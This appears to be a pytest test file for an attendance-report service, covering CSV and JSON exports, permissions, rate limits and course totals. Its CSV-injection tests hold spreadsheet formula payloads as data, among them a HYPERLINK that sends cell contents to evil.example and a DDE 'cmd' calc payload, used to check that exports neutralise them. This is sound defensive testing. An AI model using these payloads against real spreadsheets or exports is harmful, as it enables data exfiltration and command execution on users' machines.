"""Attendance reports: GET /sessions/:id/attendance.csv and
GET /sessions/course/:courseId/attendance (JSON and `?format=csv`)."""

import csv
import io
from datetime import UTC, datetime, timedelta
from urllib.parse import quote

import pytest

from livesessions.errors import (
    ATTENDANCE_FORBIDDEN,
    COURSE_ATTENDANCE_FORBIDDEN,
    MISSING_TOKEN,
    SESSION_NOT_FOUND,
    TOO_MANY_REQUESTS,
)
from tests.support.factories import (
    ADMIN,
    COURSE,
    INSTRUCTOR,
    OTHER_COURSE,
    OTHER_INSTRUCTOR,
    seed_session,
    seed_sparse_session,
)
from tests.support.webhooks import envelope

ATTENDEE_HEADER = "userId,userName,role,firstJoinedAt,lastLeftAt,present,minutesPresent,visits"
STUDENT_HEADER = (
    "studentId,sessionsAdmitted,sessionsAttended,minutesPresent,shareOfScheduledMinutes"
)


def visit(client, doc, user_id, minutes=None, user_name=None, after=0):
    """One visit of `user_id` to the room of `doc`, `after` minutes into its class, lasting
    `minutes` (None: its `participant.left` never came), delivered as Daily sends it."""
    joined = doc["scheduledAt"] + timedelta(minutes=after)
    payload = {
        "joined_at": joined.timestamp(),
        "session_id": f"visit-{doc['_id']}-{user_id}-{after}",
        "room": doc["roomName"],
        "user_id": user_id,
        "user_name": user_name or user_id,
    }
    events = [("participant.joined", payload)]
    if minutes is not None:
        events.append(("participant.left", {**payload, "duration": minutes * 60}))
    for event_type, body in events:
        response = client.post("/sessions/webhook/daily", json=envelope(event_type, body))
        assert (response.status_code, response.get_json()) == (200, {"received": True})


@pytest.fixture
def yesterday():
    """This time yesterday, on the minute (classes over), read when the test runs."""
    return datetime.now(UTC).replace(microsecond=0, second=0) - timedelta(days=1)


def bearer(token_for, user_id, role):
    return {"Authorization": f"Bearer {token_for(user_id=user_id, role=role)}"}


@pytest.fixture
def admin(token_for):
    return bearer(token_for, ADMIN, "admin")


@pytest.fixture
def other_instructor(token_for):
    return bearer(token_for, OTHER_INSTRUCTOR, "instructor")


@pytest.fixture
def student(token_for):
    return bearer(token_for, "student-1", "student")


def read_csv(response, filename):
    """The rows of a CSV download, after checking it is one (RFC 4180: CRLF line ends)."""
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == f'attachment; filename="{filename}"'
    raw = response.get_data()
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline=""), strict=True))
    # each record ends with CRLF (a line break inside a quoted field is the field's own)
    assert raw.endswith(b"\r\n")
    assert raw.count(b"\r\n") == len(rows)
    return rows


def as_cells(record, columns):
    """A JSON record as the CSV writes it: null empty, booleans as JSON spells them."""
    spelled = {None: "", True: "true", False: "false"}
    return [
        spelled[value] if value is None or isinstance(value, bool) else str(value)
        for value in (record[column] for column in columns)
    ]


# -- GET /sessions/:id/attendance.csv ------------------------------------------------------


def test_the_csv_holds_the_jsons_attendees(client, auth, db, yesterday):
    doc = seed_session(
        db, scheduledAt=yesterday, status="ended", participants=["student-1", "student-2"]
    )
    visit(client, doc, INSTRUCTOR, minutes=60, after=-5)
    visit(client, doc, "student-1", minutes=10)
    visit(client, doc, "student-1", minutes=5, user_name='Ann "the great", Smith', after=20)
    visit(client, doc, "guest-9", user_name="Zoë\nNewline", after=1)  # its `left` was lost
    stored = list(db.attendance.find().sort("_id"))

    response = client.get(f"/sessions/{doc['_id']}/attendance.csv", headers=auth)
    rows = read_csv(response, f"attendance-{doc['_id']}.csv")
    body = client.get(f"/sessions/{doc['_id']}/attendance", headers=auth).get_json()
    columns = ATTENDEE_HEADER.split(",")
    assert response.get_data().startswith(ATTENDEE_HEADER.encode() + b"\r\n")
    expected = [as_cells(a, columns) for a in body["attendees"]]
    expected[2][1] = "'Zoë\nNewline"  # a line break: behind an apostrophe (CSV injection)
    assert rows == [columns, *expected]
    assert [row[0] for row in rows[1:]] == [INSTRUCTOR, "student-1", "guest-9"]
    guest = rows[3]
    # counted until the room closed: 60 minutes and 30 of grace, from minute 1
    assert guest[1:] == ["'Zoë\nNewline", "guest", guest[3], "", "false", "89.0", "1"]
    assert rows[2][1] == 'Ann "the great", Smith'
    assert rows[2][6:] == ["15.0", "2"]
    assert b'"Ann ""the great"", Smith"' in response.get_data()  # quoted as RFC 4180 says
    assert list(db.attendance.find().sort("_id")) == stored  # a read writes nothing


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("https://evil.example","x")', "+1", "-2+3", "@SUM(A1)", "\tTab"]
)
def test_a_name_a_spreadsheet_would_run_is_written_behind_an_apostrophe(
    client, auth, db, name, yesterday
):
    doc = seed_session(db, scheduledAt=yesterday, status="ended", participants=["student-1"])
    visit(client, doc, "student-1", minutes=10, user_name=name)
    response = client.get(f"/sessions/{doc['_id']}/attendance.csv", headers=auth)
    rows = read_csv(response, f"attendance-{doc['_id']}.csv")
    assert rows[1][:2] == ["student-1", "'" + name]
    body = client.get(f"/sessions/{doc['_id']}/attendance", headers=auth).get_json()
    assert body["attendees"][0]["userName"] == name  # the JSON keeps the name as it is


# What a spreadsheet runs as a formula: a field beginning, after whitespace, with one of these.
FORMULA_STARTS = ("=", "+", "-", "@")
# Names that start a formula in a spreadsheet reading the file with `,`, `;` or either,
# or across a line break; each with the cell the CSV must hold (read with `,`).
HOSTILE_NAMES = {
    '=HYPERLINK("https://evil.example/?x="&A1,"Open")': (
        '\'=HYPERLINK("https://evil.example/?x="&A1,"Open")'
    ),
    " @SUM(1)": "' @SUM(1)",
    "a;=1+1": "'a;'=1+1",
    "a,=cmd|' /C calc'!A0": "'a,'=cmd|' /C calc'!A0",
    "x\n=1": "'x\n'=1",
    "\t=1": "'\t'=1",
    'ok;"=2': "'ok;'\"=2",  # a quote the `;` reading drops before the formula
    "Ann; Bob": "Ann; Bob",  # nothing a spreadsheet would run: left as it is
}


def assert_no_formula(raw):
    """Read back with `,` and with `;` as the separator: no field opens a formula."""
    text = raw.decode("utf-8")
    for delimiter in (",", ";"):
        for record in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for field in record:
                assert not field.strip().startswith(FORMULA_STARTS), (delimiter, field)


def test_no_spreadsheet_runs_a_name_whatever_its_separator(client, auth, db, yesterday):
    """CSV injection: hostile names written by visitors to the room, read back as a
    spreadsheet using `,` or `;` would read the file."""
    names = list(HOSTILE_NAMES)
    users = [f"student-{i}" for i in range(len(names))]
    doc = seed_session(db, scheduledAt=yesterday, status="ended", participants=users)
    for i, (user, name) in enumerate(zip(users, names, strict=True)):
        visit(client, doc, user, minutes=5, user_name=name, after=i)
    response = client.get(f"/sessions/{doc['_id']}/attendance.csv", headers=auth)
    rows = read_csv(response, f"attendance-{doc['_id']}.csv")
    assert [row[1] for row in rows[1:]] == list(HOSTILE_NAMES.values())
    assert [row[2:4] for row in rows[1:]] == [["participant", r[3]] for r in rows[1:]]
    assert {row[6] for row in rows[1:]} == {"5.0"}  # the service's numbers as they are
    assert_no_formula(response.get_data())
    body = client.get(f"/sessions/{doc['_id']}/attendance", headers=auth).get_json()
    assert [a["userName"] for a in body["attendees"]] == names  # the JSON keeps them
    stored = db.attendance.find({"session": doc["_id"]}).sort("joinedAt")
    assert [v["userName"] for v in stored] == names


def test_no_spreadsheet_runs_a_student_id_of_the_course_report(client, admin, db, yesterday):
    ids = ["-1+1", "s;@SUM(A1)", "s1"]
    seed_session(db, scheduledAt=yesterday, status="ended", participants=ids)
    response = client.get(f"/sessions/course/{COURSE}/attendance?format=csv", headers=admin)
    rows = read_csv(response, f"attendance-course-{COURSE}.csv")
    assert [row[0] for row in rows[1:]] == ["'-1+1", "s1", "'s;'@SUM(A1)"]  # by id
    assert [row[1:] for row in rows[1:]] == [["1", "0", "0.0", "0.0"]] * 3
    assert_no_formula(response.get_data())


def test_the_csv_of_a_class_nobody_joined_is_its_header(client, admin, db):
    doc = seed_session(db, participants=["student-1"])
    response = client.get(f"/sessions/{doc['_id']}/attendance.csv", headers=admin)
    assert read_csv(response, f"attendance-{doc['_id']}.csv") == [ATTENDEE_HEADER.split(",")]
    assert response.get_data() == ATTENDEE_HEADER.encode() + b"\r\n"


@pytest.mark.parametrize(
    ("who", "status", "message"),
    [
        (None, 401, MISSING_TOKEN),
        ("student", 403, ATTENDANCE_FORBIDDEN),
        ("other_instructor", 403, ATTENDANCE_FORBIDDEN),
    ],
)
def test_the_csv_is_refused_as_the_json_is(request, client, db, who, status, message):
    headers = request.getfixturevalue(who) if who else {}
    doc = seed_session(db, participants=["student-1"])
    for path in (f"/sessions/{doc['_id']}/attendance", f"/sessions/{doc['_id']}/attendance.csv"):
        response = client.get(path, headers=headers)
        assert (response.status_code, response.get_json()) == (status, {"message": message})
        assert response.headers["Content-Type"] == "application/json"


def test_the_csv_of_an_unknown_or_deleted_session_is_a_404(client, auth, db, yesterday):
    deleted = seed_session(db, status="cancelled", deletedAt=yesterday)
    for session_id in ("no-such-session", deleted["_id"]):
        for suffix in ("", ".csv"):
            response = client.get(f"/sessions/{session_id}/attendance{suffix}", headers=auth)
            assert (response.status_code, response.get_json()) == (
                404,
                {"message": SESSION_NOT_FOUND},
            )


# -- GET /sessions/course/:courseId/attendance ---------------------------------------------


@pytest.fixture
def course(client, db, yesterday):
    """A course's sessions, two instructors', with visits; and those a report leaves out."""
    a = seed_session(
        db, scheduledAt=yesterday, duration=60, status="ended", participants=["s1", "s2"]
    )
    visit(client, a, INSTRUCTOR, minutes=60)
    visit(client, a, "s1", minutes=20)
    visit(client, a, "s1", minutes=15, after=10)  # overlaps the first: 25 minutes in all
    visit(client, a, "guest-9", minutes=10)  # never admitted
    b = seed_session(
        db,
        instructor=OTHER_INSTRUCTOR,
        scheduledAt=yesterday + timedelta(hours=2),
        duration=90,
        status="ended",
        participants=["s1", "s3"],
    )
    visit(client, b, "s1", minutes=45)
    visit(client, b, "s3", minutes=90)
    visit(client, b, "s7", minutes=90)  # admitted to `future` only
    future = seed_session(db, duration=60, participants=["s1", "s6", "s7"])
    # left out: a cancelled session, a deleted one, another course's
    cancelled = seed_session(
        db, scheduledAt=yesterday, status="cancelled", participants=["s1", "s4"]
    )
    visit(client, cancelled, "s4", minutes=20)
    deleted = seed_session(
        db, scheduledAt=yesterday, status="cancelled", deletedAt=yesterday, participants=["s5"]
    )
    visit(client, deleted, "s5", minutes=20)
    elsewhere = seed_session(db, course=OTHER_COURSE, scheduledAt=yesterday, participants=["s1"])
    visit(client, elsewhere, "s1", minutes=30)
    return {"a": a, "b": b, "future": future}


def student_row(student_id, admitted, attended, minutes, share):
    return {
        "studentId": student_id,
        "sessionsAdmitted": admitted,
        "sessionsAttended": attended,
        "minutesPresent": minutes,
        "shareOfScheduledMinutes": share,
    }


def course_report(client, headers, query=""):
    response = client.get(f"/sessions/course/{COURSE}/attendance{query}", headers=headers)
    assert response.status_code == 200, response.get_json()
    assert response.headers["Content-Type"] == "application/json"
    return response.get_json()


def test_an_admin_sees_every_counted_session_of_the_course(client, admin, db, course):
    stored = list(db.livesessions.find().sort("_id"))
    assert course_report(client, admin) == {
        "courseId": COURSE,
        "sessions": 3,
        "students": [
            student_row("guest-9", 0, 1, 10.0, 0.0),  # never admitted: no share
            # 25 + 45 minutes of 60 + 90 + 60 scheduled
            student_row("s1", 3, 2, 70.0, 0.33),
            student_row("s2", 1, 0, 0.0, 0.0),  # admitted, never present
            student_row("s3", 1, 1, 90.0, 1.0),
            student_row("s6", 1, 0, 0.0, 0.0),
            student_row("s7", 1, 1, 90.0, 1.5),  # not capped: 90 minutes of 60 admitted to
        ],
    }
    assert course_report(client, admin, "?format=json") == course_report(client, admin)
    assert list(db.livesessions.find().sort("_id")) == stored  # a read writes nothing


def test_an_instructor_sees_only_the_sessions_they_teach(client, auth, other_instructor, course):
    assert course_report(client, auth) == {
        "courseId": COURSE,
        "sessions": 2,  # a and future
        "students": [
            student_row("guest-9", 0, 1, 10.0, 0.0),
            student_row("s1", 2, 1, 25.0, 0.21),  # 25 of 60 + 60
            student_row("s2", 1, 0, 0.0, 0.0),
            student_row("s6", 1, 0, 0.0, 0.0),
            student_row("s7", 1, 0, 0.0, 0.0),
        ],
    }
    assert course_report(client, other_instructor) == {
        "courseId": COURSE,
        "sessions": 1,
        "students": [
            student_row("s1", 1, 1, 45.0, 0.5),
            student_row("s3", 1, 1, 90.0, 1.0),
            student_row("s7", 0, 1, 90.0, 0.0),
        ],
    }


def test_the_minutes_are_the_sums_of_the_sessions_attendance(client, admin, course):
    """The same numbers as GET /sessions/:id/attendance, per session, summed."""
    minutes = {}
    for doc in course.values():
        body = client.get(f"/sessions/{doc['_id']}/attendance", headers=admin).get_json()
        for attendee in body["attendees"]:
            if attendee["role"] != "instructor":
                minutes[attendee["userId"]] = (
                    minutes.get(attendee["userId"], 0) + attendee["minutesPresent"]
                )
    report = course_report(client, admin)["students"]
    assert {row["studentId"]: row["minutesPresent"] for row in report if row["minutesPresent"]} == (
        minutes
    )


def test_the_csv_has_the_same_rows(client, auth, admin, course):
    columns = STUDENT_HEADER.split(",")
    for headers in (auth, admin):
        response = client.get(f"/sessions/course/{COURSE}/attendance?format=csv", headers=headers)
        rows = read_csv(response, f"attendance-course-{COURSE}.csv")
        students = course_report(client, headers)["students"]
        assert rows == [columns, *(as_cells(row, columns) for row in students)]
    assert rows[2] == ["s1", "3", "2", "70.0", "0.33"]


def test_an_admin_may_read_a_course_without_sessions(client, admin):
    body = course_report(client, admin)
    assert body == {"courseId": COURSE, "sessions": 0, "students": []}
    odd_id = quote('a"b c;d', safe="")
    response = client.get(f"/sessions/course/{odd_id}/attendance?format=csv", headers=admin)
    # only safe characters of the course id in the file name
    assert read_csv(response, "attendance-course-a_b_c_d.csv") == [STUDENT_HEADER.split(",")]


def test_sessions_written_by_older_code_are_read_with_their_defaults(client, admin, db, yesterday):
    # no status (scheduled), no participants; a participant listed twice counts once
    sparse = seed_sparse_session(db, scheduledAt=yesterday)
    visit(client, sparse, "s1", minutes=30)
    twice = seed_session(db, scheduledAt=yesterday, status="ended", participants=["s2", "s2"])
    visit(client, twice, "s2", minutes=30)
    assert course_report(client, admin) == {
        "courseId": COURSE,
        "sessions": 2,
        "students": [student_row("s1", 0, 1, 30.0, 0.0), student_row("s2", 1, 1, 30.0, 0.5)],
    }


@pytest.mark.parametrize(
    ("who", "status", "message"),
    [
        (None, 401, MISSING_TOKEN),
        ("student", 403, COURSE_ATTENDANCE_FORBIDDEN),  # admitted, but no instructor
        ("stranger", 403, COURSE_ATTENDANCE_FORBIDDEN),  # teaches another course only
        ("cancelled_only", 403, COURSE_ATTENDANCE_FORBIDDEN),  # teaches no counted session
    ],
)
def test_the_course_report_is_for_its_instructors_and_admins(
    client, db, token_for, course, who, status, message
):
    seed_session(db, instructor="stranger", course=OTHER_COURSE)
    seed_session(db, instructor="cancelled-only", status="cancelled")
    users = {"student": ("s1", "student"), "stranger": ("stranger", "instructor")}
    users["cancelled_only"] = ("cancelled-only", "instructor")
    headers = bearer(token_for, *users[who]) if who else {}
    for query in ("", "?format=csv"):
        response = client.get(f"/sessions/course/{COURSE}/attendance{query}", headers=headers)
        assert (response.status_code, response.get_json()) == (status, {"message": message})


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("?format=xml", '"format" must be one of [json, csv]'),
        ("?format=", '"format" must be one of [json, csv]'),
        ("?format=CSV", '"format" must be one of [json, csv]'),
        ("?format=csv&format=json", '"format" must be one of [json, csv]'),
        ("?format[a]=csv", '"format" must be one of [json, csv]'),
        ("?page=1", '"page" is not allowed'),
        ("?format=csv&sort=name", '"sort" is not allowed'),
    ],
)
def test_a_bad_query_is_a_joi_400(client, admin, query, message):
    response = client.get(f"/sessions/course/{COURSE}/attendance{query}", headers=admin)
    assert (response.status_code, response.get_json()) == (400, {"message": message})


def test_the_reports_are_reads_for_the_rate_limits(make_app, token_for):
    app = make_app(RATE_LIMITS_ENABLED=True, RATE_LIMIT_READS="2/minute")
    client = app.test_client()
    services = app.extensions["livesessions"]
    doc = seed_session(services.database.db)
    headers = {"Authorization": f"Bearer {token_for()}"}
    assert client.get(f"/sessions/{doc['_id']}/attendance.csv", headers=headers).status_code == 200
    response = client.get(f"/sessions/course/{COURSE}/attendance", headers=headers)
    assert response.status_code == 200
    refused = client.get(f"/sessions/{doc['_id']}/attendance", headers=headers)
    assert (refused.status_code, refused.get_json()) == (429, {"message": TOO_MANY_REQUESTS})
    for path in (f"/sessions/{doc['_id']}/attendance.csv", f"/sessions/course/{COURSE}/attendance"):
        refused = client.get(path, headers=headers)
        assert (refused.status_code, refused.get_json()) == (429, {"message": TOO_MANY_REQUESTS})
